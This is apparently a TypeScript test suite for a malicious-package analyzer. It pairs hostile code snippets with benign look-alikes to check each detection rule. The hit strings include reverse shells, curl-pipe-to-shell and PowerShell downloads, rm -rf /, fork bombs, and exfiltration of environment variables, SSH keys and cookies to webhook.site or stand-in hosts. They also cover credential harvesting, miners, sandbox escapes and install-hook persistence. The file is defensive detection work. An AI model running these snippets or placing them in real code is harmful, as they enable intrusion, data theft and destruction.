import assert from 'node:assert/strict';
import { test } from 'node:test';
import { type AnalysisLanguage, Analyzer } from '../../../src/admission/threat/analyzer.ts';
import type { Finding } from '../../../src/core/admission.ts';

const analyzer = await Analyzer.open();

interface Pair {
  readonly rule: string;
  readonly language: AnalysisLanguage;
  /** Has a finding of the rule that counts under `package`. */
  readonly hit: string;
  /** Differs in what makes it dangerous, and has none that counts. */
  readonly miss: string;
  readonly path?: string;
  /** Where what it needs is declared by packages: looked at under `effect`. */
  readonly profile?: 'effect';
}

const found = (pair: Pair, source: string): readonly Finding[] =>
  analyzer
    .analyze(source, {
      language: pair.language,
      path: pair.path ?? 'a.js',
      profile: pair.profile ?? 'package',
      model: false,
    })
    .findings.filter(({ rule, score }) => rule === pair.rule && score > 0);

const js = (rule: string, hit: string, miss: string, more: Partial<Pair> = {}): Pair => ({
  rule: `javascript/${rule}`,
  language: 'javascript',
  hit,
  miss,
  ...more,
});
const py = (rule: string, hit: string, miss: string, more: Partial<Pair> = {}): Pair => ({
  ...js('', hit, miss, { path: 'a.py', ...more }),
  rule: `python/${rule}`,
  language: 'python',
});
const sh = (rule: string, hit: string, miss: string, more: Partial<Pair> = {}): Pair => ({
  ...js('', hit, miss, { path: 'a.sh', ...more }),
  rule: `shell/${rule}`,
  language: 'shell',
});
const effect = { profile: 'effect' } as const;
const LONG = 'QUJD'.repeat(150);

const PAIRS: readonly Pair[] = [
  js(
    'dynamic-code/global',
    `const n = Object.getOwnPropertyNames(globalThis).find((n) => n[0] === 'e'); globalThis[n]('1')`,
    `const n = 'parse' + 'Int'; globalThis[n]('1')`,
    effect,
  ),
  js('child-process/exec', `require('child_process').exec('id')`, `/a/.exec('id')`, effect),
  js(
    'filesystem/read-file-sync',
    `require('fs').readFileSync('/a')`,
    `const fs = { readFileSync: (x) => x }; fs.readFileSync('/a')`,
    effect,
  ),
  js(
    'network/fetch',
    `fetch('https://a.example.invalid')`,
    `const fetch = (x) => x; fetch('https://a.example.invalid')`,
    effect,
  ),
  js('dynamic-code/eval', `eval('1')`, `function evaluate(x) { return x; } evaluate('1')`, effect),
  js('dynamic-code/set-timeout', `setTimeout('go()', 1)`, `setTimeout(() => 1, 1)`, effect),
  js(
    'module-loading/import',
    `import x from 'left-pad'; x()`,
    `import { join } from 'node:path'; join('a')`,
    effect,
  ),
  js(
    'module-loading/require',
    `module.exports = (name) => require(name)`,
    `module.exports = (name) => name`,
    effect,
  ),
  js(
    'process-manipulation/kill',
    `process.kill(1)`,
    `const process = { kill() {} }; process.kill(1)`,
    effect,
  ),
  js(
    'native-code/dlopen',
    `process.dlopen({}, '/a.node')`,
    `const d = { dlopen() {} }; d.dlopen({}, '/a.node')`,
    effect,
  ),
  js(
    'credential-harvesting/env',
    `export const all = { ...process.env }`,
    `export const mode = process.env.NODE_ENV`,
    effect,
  ),

  js(
    'dynamic-code/downloaded',
    `fetch('https://a.example.invalid').then((r) => r.text()).then((t) => eval(t))`,
    `fetch('https://a.example.invalid').then((r) => r.text()).then((t) => JSON.parse(t))`,
  ),
  js('dynamic-code/decoded', `eval(atob('YWxlcnQoMSk='))`, `console.log(atob('YWxlcnQoMSk='))`),
  js(
    'child-process/dropped',
    `const fs = require('fs'), cp = require('child_process'); fetch('https://a.example.invalid/x').then(async (r) => { fs.writeFileSync('/tmp/x.exe', await r.text()); cp.execFile('/tmp/x.exe'); })`,
    `const fs = require('fs'); fetch('https://a.example.invalid/x').then(async (r) => { fs.writeFileSync('/tmp/x.json', await r.text()); })`,
  ),
  js(
    'child-process/reverse-shell',
    `const c = require('net').connect(1, 'a.example.invalid'); const s = require('child_process').spawn('/bin/sh'); c.pipe(s.stdin); s.stdout.pipe(c);`,
    `const s = require('child_process').spawn('/bin/sh'); process.stdin.pipe(s.stdin); s.stdout.pipe(process.stdout);`,
  ),
  js(
    'child-process/script-host-shell',
    `new ActiveXObject('WScript.Shell').Run('calc')`,
    `new ActiveXObject('htmlfile')`,
  ),
  js(
    'child-process/fetched-shell',
    `require('child_process').execSync('curl https://a.example.invalid/x | bash')`,
    `require('child_process').execSync('curl https://a.example.invalid/x -o x.txt')`,
  ),
  js(
    'filesystem/wiped-disk',
    `require('child_process').execSync('rm -rf /')`,
    `require('child_process').execSync('rm -rf ./build')`,
  ),
  js(
    'dynamic-code/of-caller',
    `export const run = (text) => eval(text)`,
    `export const run = (text) => eval('1')`,
    effect,
  ),

  js(
    'exfiltration/environment',
    `fetch('https://a.example.invalid', { method: 'POST', body: JSON.stringify(process.env) })`,
    `console.log(JSON.stringify(process.env))`,
  ),
  js(
    'exfiltration/variables',
    `fetch('https://webhook.site/x?' + process.env.AWS_SECRET_ACCESS_KEY)`,
    `fetch('https://a.example.invalid/x?v=' + process.env.NODE_ENV)`,
  ),
  js(
    'exfiltration/secret-files',
    `const fs = require('fs'); fetch('https://a.example.invalid', { method: 'POST', body: fs.readFileSync('/home/u/.ssh/id_rsa') })`,
    `const fs = require('fs'); fetch('https://a.example.invalid', { method: 'POST', body: fs.readFileSync('/home/u/notes.txt') })`,
  ),
  js(
    'exfiltration/secrets',
    `fetch('https://a.example.invalid/?c=' + document.cookie)`,
    `console.log(document.cookie)`,
  ),
  js(
    'exfiltration/identity',
    `const os = require('os'); fetch('https://x.oastify.com/' + os.hostname() + os.userInfo().username)`,
    `const os = require('os'); console.log(os.hostname() + os.userInfo().username)`,
  ),
  js(
    'exfiltration/destination',
    `fetch('https://webhook.site/abc')`,
    `fetch('https://hooks.example.invalid/abc')`,
  ),
  js('network/bare-address', `fetch('http://203.0.113.9/x')`, `fetch('http://192.168.0.9/x')`),

  js(
    'credential-harvesting/secret-file',
    `require('fs').readFileSync('/home/u/.aws/credentials')`,
    `require('fs').readFileSync('/home/u/readme.md')`,
  ),
  js(
    'credential-harvesting/many-stores',
    `const fs = require('fs'); for (const f of ['/Google/Chrome/User Data/Default/Login Data', '/Exodus/exodus.wallet']) fs.readFileSync(f)`,
    `const fs = require('fs'); for (const f of ['/a/config.json', '/a/package.json']) fs.readFileSync(f)`,
  ),
  js(
    'credential-harvesting/token-pattern',
    `module.exports = /./; const p = '[\\\\w-]{24}\\\\.[\\\\w-]{6}'; fetch('https://a.example.invalid/' + p)`,
    `const p = '[\\\\w-]{2}'; fetch('https://a.example.invalid/' + p)`,
  ),
  js(
    'credential-harvesting/whole-environment',
    `console.log(JSON.stringify(process.env))`,
    `console.log(JSON.stringify(process.env.HOME))`,
  ),

  js(
    'cryptomining/pool',
    `require('net').connect(1, 'a'); const pool = 'stratum+tcp://a.example.invalid:3333'`,
    `require('net').connect(1, 'a'); const strata = 'stratum: a layer'`,
  ),
  js(
    'cryptomining/miner',
    `require('child_process').spawn('/tmp/xmrig', ['-o', 'x'])`,
    `require('child_process').spawn('/tmp/minify', ['-o', 'x'])`,
  ),

  js(
    'sandbox-escape/constructor-climb',
    `({}).constructor.constructor('return process')()`,
    `function clone(x) { return new x.constructor(); } clone(this.constructor)`,
  ),
  js(
    'sandbox-escape/process-binding',
    `process.binding('spawn_sync')`,
    `const process = { binding: () => 1 }; process.binding('spawn_sync')`,
  ),
  js(
    'sandbox-escape/prepare-stack-trace',
    `Error.prepareStackTrace = (_, f) => f[0].getThis()`,
    `Error.prepareStackTrace = (_, f) => f`,
  ),
  js(
    'sandbox-escape/host-place',
    `require('fs').writeFileSync('/sys/fs/cgroup/x/release_agent', '/x')`,
    `require('fs').writeFileSync('/tmp/agent_release', '/x')`,
  ),

  js(
    'prototype-pollution/through-instance',
    `({}).__proto__.polluted = 1`,
    `const a = {}; a.proto = 1`,
    effect,
  ),
  js(
    'prototype-pollution/shared-prototype',
    `Object.prototype.polluted = 1`,
    `class A {} A.prototype.x = 1`,
    effect,
  ),
  js(
    'prototype-pollution/unguarded-merge',
    `export function m(t, s) { for (const k in s) for (const l in s[k]) t[k][l] = s[k][l]; }`,
    `export function m(t, s) { for (const k in s) { if (k === '__proto__') continue; for (const l in s[k]) t[k][l] = s[k][l]; } }`,
    effect,
  ),

  js('obfuscation/hidden-module', `require('child' + '_process')`, `require('child_process')`),
  js(
    'obfuscation/obfuscator',
    Array.from({ length: 30 }, (_, i) => `var _0x${(0xabc0 + i).toString(16)} = ${i};`).join('\n'),
    Array.from({ length: 30 }, (_, i) => `var x${i} = 0x${(0xabc0 + i).toString(16)};`).join('\n'),
  ),
  js(
    'obfuscation/escaped-texts',
    Array.from({ length: 8 }, () => `f('\\x68\\x65\\x6c\\x6c\\x6f\\x21\\x21')`).join(';'),
    `f('\\x1b[31m', '\\x1b[0m', '\\x00\\x01')`,
  ),
  js(
    'obfuscation/confusing-names',
    Array.from({ length: 12 }, (_, i) => `var lIIlIIll${'I'.repeat(i)} = ${i};`).join('\n'),
    Array.from({ length: 12 }, (_, i) => `var illness${i} = ${i};`).join('\n'),
  ),
  js(
    'obfuscation/packed',
    `eval(function(p,a,c,k,e,d){return p}('0',1,1,'a'.split('|'),0,{}))`,
    `var text = "eval(function(p,a,c,k,e,d){return p}())"`,
  ),
  js(
    'obfuscation/encoded-payload',
    `const data = '${LONG}'; const t = Buffer.from(data, 'base64').toString(); (0, eval)(t)`,
    `const data = '${LONG}'; const t = Buffer.from(data, 'base64').toString(); show(t)`,
  ),
  js(
    'obfuscation/invisible-text',
    `const a = '${'\ufe01'.repeat(12)}'; eval(a)`,
    `const a = 'a\ufe0f'; eval(a)`,
  ),
  js(
    'obfuscation/reordered-text',
    `/* \u202e } \u2066if (admin)\u2069 \u2066 begin */ go()`,
    `/* plain */ go()`,
  ),
  js(
    'obfuscation/out-of-sight',
    `let a = 1;${' '.repeat(150)}fetch('https://a.example.invalid')`,
    `let a = 1;${' '.repeat(150)}// fetch()`,
  ),
  js('obfuscation/signs-alone', '[][(![]+[])[+[]]]'.repeat(40), 'add(1, 2); '.repeat(60)),
  js(
    'obfuscation/unpacks-itself',
    `var t = ''; for (const n of [${'101,'.repeat(600)}]) t += String.fromCharCode(n ^ k); eval(t)`,
    `var t = 0; for (const n of [${'101,'.repeat(600)}]) t += n; show(t)`,
  ),
  js(
    'obfuscation/unpacks-itself',
    `eval(plain("${escape('add(1, 2); '.repeat(40))}")); function plain(text) { return unescape(text) }`,
    `eval(plain("${escape('require')}")); function plain(text) { return unescape(text) }`,
  ),
  py('obfuscation/hidden-name', `eval('o' + 's.s' + 'ystem')('x')`, `eval('os.system')('x')`),
  py(
    'dynamic-code/decoded',
    'import zlib\nℯ𝓍ℯ𝒸(zlib.decompress(b).decode())',
    'import zlib\nprint(zlib.decompress(b).decode())',
  ),
  js(
    'obfuscation/hidden-component',
    `new ActiveXObject('WScr' + 'ipt.Shell')`,
    `new ActiveXObject('Microsoft.XMLHTTP')`,
  ),
  js(
    'obfuscation/code-in-comment',
    `/*@cc_on ${'var a = "b"; '.repeat(60)} @*/`,
    `var ie = /*@cc_on!@*/false`,
  ),

  js(
    'evasion/time-bomb',
    `if (new Date() > new Date('2027-01-01')) require('fs').rmSync('/a')`,
    `if (ready) require('fs').rmSync('/a'); console.log(new Date())`,
  ),
  js(
    'evasion/chosen-machine',
    `if (require('os').hostname() === 'build') require('child_process').exec('x')`,
    `require('child_process').exec('x'); console.log(require('os').hostname())`,
  ),
  js(
    'evasion/watchers',
    `const tools = ['wireshark', 'vboxservice']; require('child_process').exec('x')`,
    `const tools = ['hammer', 'saw']; require('child_process').exec('x')`,
  ),

  js(
    'persistence/place',
    `require('fs').appendFileSync('/home/u/.bashrc', 'x')`,
    `require('fs').readFileSync('/home/u/.bashrc')`,
  ),
  js(
    'evasion/debugger-trap',
    `(function () {}).constructor('debugger')()`,
    `(function () {}).constructor('return 1')()`,
  ),
  js('resource-abuse/endless-loop', `while (true) {}`, `while (go()) {}`, effect),
  js(
    'resource-abuse/endless-allocation',
    `const a = []; for (;;) a.push(new Array(9))`,
    `const a = []; for (;;) { a.push(new Array(9)); if (a.length > 9) break; }`,
  ),
  js('resource-abuse/huge-allocation', `Buffer.alloc(5e9)`, `Buffer.alloc(5e3)`),
  js(
    'resource-abuse/process-flood',
    `const cp = require('child_process'); while (true) cp.spawn('x')`,
    `const cp = require('child_process'); for (let i = 0; i < 3; i++) cp.spawn('x')`,
  ),

  js(
    'obfuscation/hidden-argument',
    `fetch(atob('aHR0cHM6Ly9hLmV4YW1wbGUuaW52YWxpZA=='))`,
    `fetch('https://a.example.invalid/' + 'x')`,
  ),
  js(
    'obfuscation/string-table',
    `var t = [${Array.from({ length: 12 }, (_, i) => `'\\x68\\x65\\x6c\\x6c\\x6f\\x21\\x2${i % 10}'`).join()}]; function f(i) { return t[i]; } f(1); f(2)`,
    `var t = [${Array.from({ length: 12 }, (_, i) => `'word${i}'`).join()}]; function f(i) { return t[i]; } f(1); f(2)`,
  ),
  js(
    'sandbox-escape/function-climb',
    `new Function("return process.mainModule.require('child_process')")()`,
    `new Function("return 1")()`,
  ),
  js('sandbox-escape/main-module', `process.mainModule.require('fs')`, `module.require('fs')`),
  js('sandbox-escape/builtin-module', `process.getBuiltinModule('fs')`, `getBuiltinModule('fs')`),
  js('prototype-pollution/own-prototype', `a.__proto__ = b`, `a.prototypes = b`, effect),
  js(
    'child-process/script-host-downloader',
    `var a = new ActiveXObject('MSXML2.XMLHTTP'), b = new ActiveXObject('ADODB.Stream')`,
    `var a = new ActiveXObject('MSXML2.XMLHTTP')`,
  ),
  js(
    'child-process/decoded-shell',
    `require('child_process').exec('echo aWQK | base64 -d | sh')`,
    `require('child_process').exec('echo aWQK | base64 -d > a.txt')`,
  ),
  py(
    'child-process/decoded-shell',
    `import os\nos.system('echo %s|base64 -d|sh' % made())`,
    `import os\nos.system('echo %s|base64 -d' % made())`,
  ),
  js(
    'child-process/fetched-powershell',
    `require('child_process').exec("powershell iex (iwr https://a.example.invalid/x.ps1)")`,
    `require('child_process').exec("gdb -iex 'set x https://a' b")`,
  ),
  js(
    'child-process/hidden-window',
    `require('child_process').exec('powershell -w hidden -file a.ps1')`,
    `require('child_process').exec('powershell -file a.ps1')`,
  ),
  js(
    'child-process/fetched-by-windows',
    `require('child_process').exec('certutil -urlcache -f https://a.example.invalid/x x')`,
    `require('child_process').exec('certutil -hashfile x sha256')`,
  ),
  js(
    'filesystem/hidden-file',
    `require('child_process').exec('attrib +h x')`,
    `require('child_process').exec('attrib x')`,
  ),
  js(
    'exfiltration/files',
    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: fs.readFileSync('/a') })`,
    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: 'text' }); fs.readFileSync('/a')`,
  ),
  js(
    'exfiltration/listing',
    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: fs.readdirSync('/').join() })`,
    `const fs = require('fs'); fetch('https://webhook.site/x', { method: 'POST', body: 'text' }); fs.readdirSync('/')`,
  ),
  js(
    'exfiltration/output',
    `const cp = require('child_process'); fetch('https://webhook.site/x', { method: 'POST', body: cp.execSync('ls') })`,
    `const cp = require('child_process'); fetch('https://webhook.site/x', { method: 'POST', body: 'x' }); cp.execSync('ls')`,
  ),
  py(
    'evasion/watched',
    `import sys, os\nif sys.gettrace() is None:\n    os.system('x')`,
    `import sys, os\nif len(sys.argv) > 1:\n    os.system('x')`,
  ),
  py(
    'sandbox-escape/globals-climb',
    `handler.__init__.__globals__['__builtins__']['eval']('1')`,
    `handler.__init__.__doc__.strip()`,
  ),
  py(
    'sandbox-escape/hidden-attribute',
    `getattr(x, '__sub' + 'classes__')()`,
    `getattr(x, 'sub' + 'classes')()`,
  ),
  py(
    'child-process/system',
    `import os\nos.system('id')`,
    `class os:\n    def system(x): pass\nos.system('id')`,
    effect,
  ),
  py(
    'dynamic-code/downloaded',
    `import requests\nexec(requests.get('http://a.example.invalid').text)`,
    `import requests\nprint(requests.get('http://a.example.invalid').text)`,
  ),
  py(
    'dynamic-code/decoded',
    `import base64\nexec(base64.b64decode('cHJpbnQoMSk='))`,
    `import base64\nprint(base64.b64decode('cHJpbnQoMSk='))`,
  ),
  py(
    'dynamic-code/written-downloader',
    `f = open('/tmp/x', 'w')\nf.write("from urllib.request import urlopen;exec(urlopen('http://a.example.invalid').read())")`,
    `f = open('/tmp/x', 'w')\nf.write("from urllib.request import urlopen;print(urlopen('http://a.example.invalid').read())")`,
  ),
  py(
    'persistence/install-network',
    `import requests\nfrom setuptools import setup\nrequests.get('https://a.example.invalid')\nsetup(name='x')`,
    `from setuptools import setup\nsetup(name='x', url='https://a.example.invalid')`,
    { path: 'setup.py' },
  ),
  py(
    'persistence/install-starts',
    `import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n  def run(self):\n    subprocess.run(['hello'])\nsetup(name='x', cmdclass={'install': Hook})`,
    `import subprocess\nfrom setuptools import setup\nfrom setuptools.command.install import install\nclass Hook(install):\n  def run(self):\n    subprocess.run(['cmake', '..'])\nsetup(name='x', cmdclass={'install': Hook})`,
    { path: 'setup.py' },
  ),
  py(
    'persistence/install-program',
    `import subprocess\nfrom setuptools import setup\nsubprocess.run(['powershell', '-c', 'x'])\nsetup(name='x')`,
    `import subprocess\nfrom setuptools import setup\nsubprocess.run(['git', 'describe'])\nsetup(name='x')`,
    { path: 'setup.py' },
  ),
  py(
    'persistence/install-code',
    `from setuptools import setup\nexec("${'a = 1; '.repeat(20)}")\nsetup(name='x')`,
    `from setuptools import setup\nexec(open('version.py').read())\nsetup(name='x')`,
    { path: 'setup.py' },
  ),
  py(
    'exfiltration/captured-input',
    `import requests, pyperclip\nrequests.post('https://a.example.invalid', data=pyperclip.paste())`,
    `import pyperclip\nprint(pyperclip.paste())`,
  ),
  py(
    'exfiltration/environment',
    `import requests, os\nrequests.post('https://a.example.invalid', json=dict(os.environ))`,
    `import requests, os\nrequests.post('https://a.example.invalid', json={'mode': 'x'})\nos.environ.get('HOME')`,
  ),
  py(
    'sandbox-escape/subclasses',
    `().__class__.__base__.__subclasses__()`,
    `class A: pass\nA.__subclasses__()`,
  ),
  py(
    'obfuscation/hidden-builtin',
    `getattr(__builtins__, 'ev' + 'al')('1')`,
    `getattr(shape, 'na' + 'me')`,
  ),
  py(
    'child-process/reverse-shell',
    `import socket, os, subprocess\ns = socket.socket()\ns.connect(('a.example.invalid', 1))\nos.dup2(s.fileno(), 0)\nsubprocess.call(['/bin/sh', '-i'])`,
    `import socket, os, subprocess\ns = socket.socket()\ns.connect(('a.example.invalid', 1))\nsubprocess.call(['/bin/ls'])`,
  ),
  py(
    'child-process/encoded-powershell',
    `import os\nos.system('powershell -enc SQBFAFgAIAAoAE4AZQB3AC0A')`,
    `import os\nos.system('powershell -file build.ps1')`,
  ),
  py(
    'evasion/long-sleep',
    `import time, os\ntime.sleep(3600)\nos.system('x')`,
    `import time, os\ntime.sleep(3)\nos.system('x')`,
  ),
  py(
    'resource-abuse/process-flood',
    `import os\nwhile True:\n    os.fork()`,
    `import os\nif os.fork() == 0:\n    pass`,
  ),

  sh(
    'dynamic-code/downloaded',
    'curl https://a.example.invalid/x | sh',
    'curl https://a.example.invalid/x | grep version',
  ),
  sh('dynamic-code/decoded', 'echo aWQK | base64 -d | sh', 'echo aWQK | base64 -d'),
  sh(
    'child-process/reverse-shell',
    'bash -i >& /dev/tcp/a.example.invalid/4444 0>&1',
    'bash -i > /dev/null 2>&1',
  ),
  sh(
    'child-process/told-stranger',
    'curl "https://a.example.invalid/$(whoami)"',
    'curl "https://a.example.invalid/$(date +%F)"',
  ),
  sh('filesystem/wiped-disk', 'rm -rf --no-preserve-root /', 'rm -rf /tmp/build'),
  sh('filesystem/privileged-mark', 'chmod u+s /tmp/x', 'chmod u+x /tmp/x'),
  sh('evasion/cleared-history', 'history -c', 'history 5'),
  sh('evasion/disabled-guard', 'setenforce 0', 'getenforce'),
  sh(
    'sandbox-escape/privileged-container',
    'docker run --privileged -v /:/host x',
    'docker run -v ./data:/data x',
  ),
  sh('sandbox-escape/nsenter', 'nsenter -t 1 -m sh', 'command -v nsenter'),
  sh(
    'sandbox-escape/host-place',
    'echo x > /proc/sys/kernel/core_pattern',
    'echo x > /tmp/core_pattern.txt',
  ),
  sh('persistence/crontab', 'crontab /tmp/table', 'crontab -l'),
  sh('persistence/systemctl', 'systemctl enable agent', 'systemctl status agent'),
  sh('persistence/place', 'echo x >> ~/.profile', 'cp ~/.profile /tmp/copy'),
  sh('resource-abuse/fork-bomb', 'b() { b | b & }; b', 'b() { a | c & }; b'),
  sh('cryptomining/miner', './xmrig -o stratum+tcp://a.example.invalid:1', './minimize -o out'),
  sh('network/socket-file', 'echo x > /dev/tcp/a.example.invalid/80', 'echo x > /dev/stderr'),
];

for (const pair of PAIRS) {
  test(`${pair.rule}: found where it is dangerous, not in what only looks like it`, () => {
    assert.ok(found(pair, pair.hit).length > 0, 'not found');
    assert.deepEqual(
      found(pair, pair.miss).map(({ excerpt }) => excerpt),
      [],
    );
  });
}

test('what is declared counts as a link of chains only', () => {
  const source = `require('child_process').exec('id')`;
  const options = { language: 'javascript', model: false } as const;
  const bare = analyzer.analyze(source, options);
  assert.ok(bare.score >= 95);
  const declared = analyzer.analyze(source, {
    ...options,
    declares: ['child-process', 'module-loading'],
  });
  assert.equal(declared.score, 0);
  assert.ok(
    declared.findings.some(
      ({ rule, capability }) => rule.endsWith('/exec') && capability === 'child-process',
    ),
  );
  const chain = `fetch('https://a.example.invalid').then((r) => r.text()).then((t) => eval(t))`;
  const all = analyzer.analyze(chain, { ...options, declares: ['network', 'dynamic-code'] });
  assert.ok(all.score >= 90, 'a chain of declared links');
  const [flow] = all.findings.flatMap(({ flow: steps }) => (steps === undefined ? [] : [steps]));
  assert.deepEqual(
    flow?.map(({ label }) => label),
    ['global.fetch', 'global.eval'],
  );
});

test('what the analysis could not do is suspicious and says so', () => {
  const unparsed = analyzer.analyze('this is ( no program }', {
    language: 'javascript',
    model: false,
    profile: 'package',
  });
  assert.ok(
    unparsed.findings.some(({ rule }) => rule.startsWith('analysis/')),
    'a finding',
  );
});

test('excerpts show what cannot be seen', () => {
  const { findings } = analyzer.analyze(`const a = '${'\ufe01'.repeat(12)}'; eval(a)`, {
    language: 'javascript',
    model: false,
  });
  const [one] = findings.filter(({ rule }) => rule.endsWith('invisible-text'));
  assert.match(one?.excerpt ?? '', /^(\\u\{fe01\})+…?$/);
});

test('code that is written to a file, handed to an interpreter or decoded is looked at, too', () => {
  const cases = [
    [
      'python',
      `import subprocess\nf = open('/tmp/x.py', 'w')\nf.write("import base64\\nexec(base64.b64decode('cHJpbnQoMSk='))")\nsubprocess.Popen(['python', '/tmp/x.py'])`,
      'python/dynamic-code/decoded',
    ],
    [
      'shell',
      `python3 -c "import urllib.request; exec(urllib.request.urlopen('http://a.example.invalid').read())"`,
      'python/dynamic-code/downloaded',
    ],
    [
      'python',
      `import os\nos.system('curl http://a.example.invalid | sh')`,
      'shell/dynamic-code/downloaded',
    ],
    [
      'javascript',
      `eval(atob('cmVxdWlyZSgiY2hpbGRfcHJvY2VzcyIpLmV4ZWMoImN1cmwgaHR0cDovL2EuZXhhbXBsZS5pbnZhbGlkIHwgc2giKQ=='))`,
      'shell/dynamic-code/downloaded',
    ],
  ] as const;
  for (const [language, source, rule] of cases) {
    const { findings } = analyzer.analyze(source, { language, model: false });
    const one = findings.find((finding) => finding.rule === rule);
    assert.ok(
      one !== undefined,
      `${language}: ${findings.map((finding) => finding.rule).join(' ')}`,
    );
    assert.ok(one.range.end <= source.length, 'a place in the outer text');
  }
});
